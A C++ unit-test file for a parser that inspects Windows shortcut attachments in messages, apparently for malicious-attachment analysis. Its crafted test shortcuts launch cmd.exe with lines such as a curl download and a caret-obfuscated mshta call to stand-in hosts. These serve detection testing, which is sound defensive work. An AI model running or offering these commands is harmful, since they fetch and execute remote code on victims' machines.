#include "message/files/shortcut.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "message/files/made_archive.h"
#include "message/files/made_ole.h"
#include "message/files/opened_file.h"
#include "message/parse.h"

namespace backstamp::message {
namespace {

using testing::Contains;

std::string counted(const std::string& text) { return number(text.size(), 2) + wide(text); }

std::string link(const std::string& arguments) {
  const std::string info = std::string("C:\\Windows\\cmd.exe") + '\0';
  std::string bytes = "\x4c" + std::string(3, '\0') + number(0x21401, 4) + std::string(12, '\0');
  bytes += number(0x01 | 0x02 | 0x04 | 0x20 | 0x40 | 0x80, 4);
  bytes.resize(76, '\0');
  bytes += number(4, 2) + "ids.";
  bytes += number(28 + info.size(), 4) + number(28, 4) + number(1, 4) + number(0, 4) +
           number(28, 4) + number(0, 4) + number(0, 4) + info;
  return bytes + counted("a name") + counted(arguments) + counted("icon.ico");
}

TEST(Shortcut, ReadsWhatItStarts) {
  const Shortcut shortcut = read_shortcut(link("/c start calc"));
  EXPECT_EQ(shortcut.target, "C:\\Windows\\cmd.exe");
  EXPECT_EQ(shortcut.arguments, "/c start calc");
  EXPECT_EQ(shortcut.icon, "icon.ico");
  EXPECT_EQ(shortcut.relative_path, "");
}

TEST(Shortcut, AnEnvironmentTargetCounts) {
  std::string block = number(0x314, 4) + number(0xa0000001, 4) + std::string(260, '\0');
  block += wide("%TEMP%\\x.exe");
  block.resize(0x314, '\0');
  EXPECT_EQ(read_shortcut(link("") + block).target, "%TEMP%\\x.exe");
}

TEST(Shortcut, GivesUrlsWithAndWithoutCarets) {
  EXPECT_THAT(urls_of(opened(link("/c curl http://plain.example/a"))),
              Contains("http://plain.example/a"));
  EXPECT_THAT(urls_of(opened(link("/c m^shta h^ttp://ca^ret.example/b"))),
              Contains("http://caret.example/b"));
}

TEST(Shortcut, TellsTheCommandLine) {
  EXPECT_EQ(opened(link("/c start calc")).command_line, "C:\\Windows\\cmd.exe /c start calc");
  const Facts facts =
      parse(letter_with("hello", "a.lnk", link("/c " + std::string(9000, 'x'))), {});
  EXPECT_TRUE(
      facts.attachments.at(0).command_line.view().starts_with("C:\\Windows\\cmd.exe /c xx"));
  EXPECT_EQ(facts.attachments.at(0).command_line.size(), 4096U);
}

TEST(Shortcut, BrokenFilesEnd) {
  const std::string whole = link("http://x.example/");
  for (std::size_t size = 0; size < whole.size(); ++size) {
    read_shortcut(std::string_view(whole).substr(0, size));
  }
}

}  // namespace
}  // namespace backstamp::message
